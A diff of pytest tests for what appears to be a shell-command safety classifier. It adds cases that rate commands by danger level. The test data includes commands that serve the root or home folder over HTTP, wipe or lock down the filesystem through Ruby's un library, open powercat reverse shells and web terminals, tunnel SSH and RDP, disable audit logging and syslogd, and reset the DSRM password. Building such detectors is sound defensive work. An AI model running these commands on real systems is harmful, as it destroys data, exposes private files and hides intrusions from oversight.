@@ -12,7 +12,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.safety._levels import PS_BLOCK_WRAPPERS, B, D, M, S
+from tests.safety._levels import PS_BLOCK_WRAPPERS, B, C, D, M, S
 from tests.safety._levels import level as _level
 
 ARCH_BLOCKED = [
@@ -96,3 +96,171 @@ def test_input_object_from_cmd() -> None:
 )
 def test_input_object_look_alikes(command: str, expected: int) -> None:
     assert _level(command, "powershell") == expected
+
+
+# --- file servers publishing the root, a home or a system folder (exfiltration) ----------
+SERVES_PROTECTED = [
+    "busybox httpd -f -p 8080 -h /",
+    "darkhttpd / --port 8080",
+    "miniserve /",
+    "dufs -p 5000 ~",
+    "http-server / -p 8080",
+    "npx http-server / -p 8080",
+    "updog -d / -p 8080",
+    "twistd -n web --path / --port tcp:8080",
+    "caddy file-server --root / --listen :8080",
+    "rclone serve http / --addr :8080",
+    "rclone serve webdav ~ --addr 0.0.0.0:8080",
+    "cd / && python3 -m http.server 8080",
+    "cd ~ && darkhttpd .",
+    "ruby -run -e httpd -- --port=8080 /",
+    "ruby -run -e httpd / -p 8080",
+]
+
+
+@pytest.mark.parametrize("command", SERVES_PROTECTED)
+def test_file_server_of_a_protected_folder_is_exfiltration(command: str) -> None:
+    assert _level(command) == C
+
+
+@pytest.mark.parametrize("command", SERVES_PROTECTED[:4])
+@pytest.mark.parametrize("wrap", ["sudo {}", "env A=1 {}", "sh -c {q}", "f() {{ {}; }}; f"])
+def test_file_server_wrapped_keeps_its_level(command: str, wrap: str) -> None:
+    quoted = "'" + command.replace("'", "'\\''") + "'"
+    assert _level(wrap.format(command, q=quoted)) == C
+
+
+@pytest.mark.parametrize(
+    "command,expected",
+    [
+        ("busybox httpd -f -p 8080 -h ./public", M),
+        ("python3 -m http.server 8080", M),
+        ("miniserve ./dist -p 8080", M),
+        ("darkhttpd / --addr 127.0.0.1", M),  # loopback only
+        ("caddy file-server --root ./public", M),
+        ("rclone serve http ./site", M),
+        ("rclone serve http remote:bucket", M),
+        ("ruby -run -e httpd -- --port=8080 ./public", M),
+        ("httpd -k start", M),
+        ("httpd -t", S),
+        ("miniserve --help", S),
+        ("echo darkhttpd / --port 8080", S),
+    ],
+)
+def test_file_server_look_alikes(command: str, expected: int) -> None:
+    assert _level(command) == expected
+
+
+# --- Ruby's `un` library: `ruby -run -e UTILITY -- ARGS` is the utility ------------------
+RUBY_UN_BLOCKED = [
+    "ruby -run -e rm -- -rf /",
+    "ruby -run -e rm -- -rf ~",
+    "ruby -r un -e rm -- -rf /etc",
+    "ruby --require=un -e rm -- -fr /usr",
+    "ruby -run -e mv -- /etc /tmp/e",
+    "ruby -run -e chmod -- -R 000 /",
+]
+
+
+@pytest.mark.parametrize("command", RUBY_UN_BLOCKED)
+def test_ruby_un_utilities(command: str) -> None:
+    assert _level(command) == B
+
+
+@pytest.mark.parametrize("command", RUBY_UN_BLOCKED[:2])
+@pytest.mark.parametrize("wrap", ["sudo {}", "timeout 5 {}", "sh -c {q}", "eval {q}"])
+def test_ruby_un_wrapped_keeps_its_level(command: str, wrap: str) -> None:
+    quoted = "'" + command.replace("'", "'\\''") + "'"
+    assert _level(wrap.format(command, q=quoted)) == B
+
+
+@pytest.mark.parametrize(
+    "command,expected",
+    [
+        ("ruby -run -e rm -- -rf build", D),
+        ("ruby -run -e mkdir -- -p out/x", M),
+        ("ruby -run -e help", S),
+        ("ruby -e 'puts 1'", S),
+        ("echo ruby -run -e rm -- -rf /", S),
+    ],
+)
+def test_ruby_un_look_alikes(command: str, expected: int) -> None:
+    assert _level(command) == expected
+
+
+# --- login ports published by a tunnel, auditing rules that audit nothing ---------------
+@pytest.mark.parametrize(
+    "command,expected",
+    [
+        ("cloudflared tunnel --url ssh://localhost:22", C),
+        ("cloudflared tunnel --url tcp://localhost:3389", C),
+        ("cloudflared tunnel --url=rdp://127.0.0.1:3389", C),
+        ("cloudflared tunnel --url http://localhost:8080", M),
+        ("auditctl -a never,task", C),
+        ("auditctl -a exit,never -S all", C),
+        ("sudo auditctl -A never,exit -F arch=b64 -S execve", C),
+        ("auditctl -a always,exit -F arch=b64 -S execve", M),
+        ("auditctl -l", S),
+    ],
+)
+def test_tunnels_and_audit_rules(command: str, expected: int) -> None:
+    assert _level(command) == expected
+
+
+# --- protected folders in Windows spelling; shares; web terminals; powercat --------------
+@pytest.mark.parametrize(
+    "command,shell,expected",
+    [
+        ("python -m http.server -d C:\\ 8080", "powershell", C),
+        ("npx http-server C:\\Users -p 8080", "powershell", C),
+        ("python -m http.server --directory %USERPROFILE%", "cmd", C),
+        ("python3 -m http.server -d /var/lib", "bash", C),
+        ("python -m http.server -d C:\\src\\site", "powershell", M),
+        ("python3 -m http.server -d /srv/www/site", "bash", M),
+        ("python3 -m http.server -d /srv", "bash", M),  # shared or served data, not a home
+        ("python3 -m http.server -d /tmp", "bash", M),
+        ("python3 -m http.server -d /usr", "bash", C),
+        ("New-SmbShare -Name all -Path C:\\ -FullAccess Everyone", "powershell", C),
+        ("New-SmbShare -Name u -Path $env:USERPROFILE -ReadAccess Everyone", "powershell", C),
+        ("New-SmbShare u C:\\Users", "powershell", C),
+        ("New-SmbShare -Name site -Path D:\\www\\site -ReadAccess Everyone", "powershell", M),
+        ("net share docs=%USERPROFILE% /grant:everyone,read", "cmd", C),
+        ("net share w=C:\\Windows", "cmd", C),
+        ("net share site=D:\\www\\site", "cmd", M),
+        ("net share", "cmd", S),
+        ("Get-SmbShare", "powershell", S),
+        ("gotty -w bash", "bash", C),
+        ("ttyd -p 7681 -W /bin/zsh", "bash", C),
+        ("websocketd --port=8080 bash", "bash", C),
+        ("wetty --port 3000 --command bash", "bash", C),
+        ("sudo ttyd -W bash", "bash", C),
+        ("ttyd htop", "bash", M),
+        ("gotty -w bash --address 127.0.0.1", "bash", M),
+        ("ttyd --help", "bash", S),
+        ("powercat -c 10.0.0.1 -p 4444 -e cmd", "powershell", C),
+        ("powercat -l -p 4444 -ep", "powershell", C),
+        ("powercat -c 10.0.0.1 -p 80", "powershell", M),
+    ],
+)
+def test_published_folders_and_shells(command: str, shell: str, expected: int) -> None:
+    assert _level(command, shell) == expected
+
+
+# --- logging daemons by their BSD/macOS names; the DSRM administrator password -----------
+@pytest.mark.parametrize(
+    "command,shell,expected",
+    [
+        ("launchctl unload -w /System/Library/LaunchDaemons/com.apple.syslogd.plist", "bash", C),
+        ("sudo launchctl bootout system/com.apple.syslogd", "bash", C),
+        ("launchctl disable system/com.apple.logd", "bash", C),
+        ("killall syslogd", "bash", C),
+        ("service syslogd stop", "bash", C),
+        ("launchctl list com.apple.syslogd", "bash", S),
+        ("pgrep syslogd", "bash", S),
+        ('ntdsutil "set dsrm password" "reset password on server null" q q', "cmd", C),
+        ('ntdsutil "set dsrm password" "sync from domain account dsrmsync" q q', "cmd", C),
+        ('ntdsutil "metadata cleanup" q', "cmd", M),
+    ],
+)
+def test_logging_daemons_and_dsrm(command: str, shell: str, expected: int) -> None:
+    assert _level(command, shell) == expected
